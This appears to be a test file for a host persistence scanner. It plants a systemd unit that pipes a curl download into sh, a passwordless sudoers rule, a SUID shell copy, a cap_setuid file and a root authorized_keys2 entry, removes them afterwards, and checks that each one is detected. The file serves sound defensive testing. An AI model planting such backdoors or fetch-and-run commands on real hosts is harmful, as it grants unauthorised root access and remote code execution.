import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseJson, runIr } from '../helpers/cli.js';
import { sshArgs } from '../helpers/services.js';
import type { ScanReport } from '../../src/scan/engine.js';

/**
 * The persistence map on a real host: plant one item per location (unique names, always removed in
 * afterAll), then scan the local machine and the same machine over ssh as deploy with sudo.
 */
const tag = `ir-test-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
const unit = `/etc/systemd/system/${tag}.service`;
const sudoers = `/etc/sudoers.d/${tag}`;
const suidDir = `/tmp/${tag}`;
const suidFile = `${suidDir}/sh`;
/** an interpreter with cap_setuid+ep: root for whoever runs it (getcap finds it live, locally and over ssh) */
const capFile = `${suidDir}/python3`;
const keys2 = '/root/.ssh/authorized_keys2';
let plantedKeys2 = false;
const ONLY = 'systemd,privilege,authorized-keys,suid';

beforeAll(() => {
  writeFileSync(unit, `[Unit]\nDescription=${tag}\n\n[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.9/${tag}.sh | sh'\n\n[Install]\nWantedBy=multi-user.target\n`);
  // validated before it is put in place: a broken sudoers.d file would break sudo on this machine
  const draft = join(mkdtempSync(join(tmpdir(), 'ir-sudoers-')), 'draft');
  writeFileSync(draft, `${tag.replace(/-/g, '_')} ALL=(ALL) NOPASSWD: ALL\n`, { mode: 0o440 });
  execFileSync('visudo', ['-cf', draft]);
  copyFileSync(draft, sudoers);
  chmodSync(sudoers, 0o440);
  execFileSync('visudo', ['-cf', sudoers]);
  mkdirSync(suidDir, { recursive: true });
  copyFileSync('/bin/sh', suidFile);
  chmodSync(suidFile, 0o4755);
  copyFileSync('/bin/true', capFile);
  execFileSync('setcap', ['cap_setuid+ep', capFile]);
  if (!existsSync(keys2)) {
    const dir = mkdtempSync(join(tmpdir(), 'ir-key-'));
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', `${tag}@example.com`, '-f', join(dir, 'k')]);
    mkdirSync('/root/.ssh', { recursive: true, mode: 0o700 });
    writeFileSync(keys2, readFileSync(join(dir, 'k.pub')), { mode: 0o600 });
    plantedKeys2 = true;
  }
});

afterAll(() => {
  rmSync(unit, { force: true });
  rmSync(sudoers, { force: true });
  rmSync(suidDir, { recursive: true, force: true });
  if (plantedKeys2) rmSync(keys2, { force: true });
});

function expectPlanted(r: ScanReport) {
  const at = (path: string) => r.findings.filter((f) => f.path === path);
  expect(at(unit)[0]).toMatchObject({ detector: 'systemd', severity: 'critical', attack: 'T1543.002' });
  expect(at(sudoers)[0]).toMatchObject({ rule: 'privilege.sudo-nopasswd-all', severity: 'high', attack: 'T1548.003' });
  expect(at(suidFile)[0]).toMatchObject({ detector: 'suid', severity: 'critical', attack: 'T1548.001' });
  expect(at(capFile)[0]).toMatchObject({ rule: 'suid.capabilities', severity: 'critical', title: `File capabilities cap_setuid=ep on ${capFile}` });
  if (plantedKeys2) expect(at(keys2)[0]).toMatchObject({ detector: 'authorized-keys', user: 'root' });
  expect(r.detectors.filter((d) => d.error)).toEqual([]);
}

describe('persistence map on the live host', () => {
  it('finds the planted unit, sudoers rule, authorized_keys2 and SUID shell copy', async () => {
    const run = await runIr(['persistence-scan', '--only', ONLY, '--json']);
    expect(run.code).toBe(1);
    const r = parseJson<ScanReport>(run);
    expect(r.target).toBe('local');
    expectPlanted(r);
  });

  it('package-owned units of this Debian host are not reported above low', async () => {
    const r = parseJson<ScanReport>(await runIr(['persistence-scan', '--only', 'systemd', '--json']));
    const loud = r.findings.filter((f) => ['medium', 'high', 'critical'].includes(f.severity) && f.path !== unit);
    expect(loud.filter((f) => /^\/(usr\/)?lib\/systemd\//.test(f.path ?? ''))).toEqual([]);
  });
});

describe('persistence map over ssh (deploy with sudo)', () => {
  it('sees the same planted items through sftp under sudo', async () => {
    const run = await runIr(['persistence-scan', ...sshArgs(), '--only', ONLY, '--json']);
    expect(run.code).toBe(1);
    const r = parseJson<ScanReport>(run);
    expect(r.target).toBe('ssh');
    expectPlanted(r);
  });
});
